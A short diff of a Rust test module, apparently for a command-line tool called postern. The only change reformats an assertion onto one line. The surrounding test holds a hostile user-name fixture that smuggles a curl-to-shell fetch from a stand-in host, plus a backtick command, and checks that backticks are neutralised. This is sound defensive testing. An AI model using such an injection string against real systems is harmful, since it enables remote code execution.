@@ -272,10 +272,7 @@ mod tests {
         let filled = |user| Words { user, ..WORDS }.fill(text);
         let anna = "anna.b+c@home-1.test";
         assert_eq!(filled(Some(anna)), text.replace("{user}", anna));
-        assert_eq!(
-            filled(None),
-            "Of NAME: `postern user show NAME`, then `x` NAME and `y NAME`."
-        );
+        assert_eq!(filled(None), "Of NAME: `postern user show NAME`, then `x` NAME and `y NAME`.");
         let hostile = "x;curl evil.example|sh;#`id`";
         let told = hostile.replace('`', "?");
         assert_eq!(
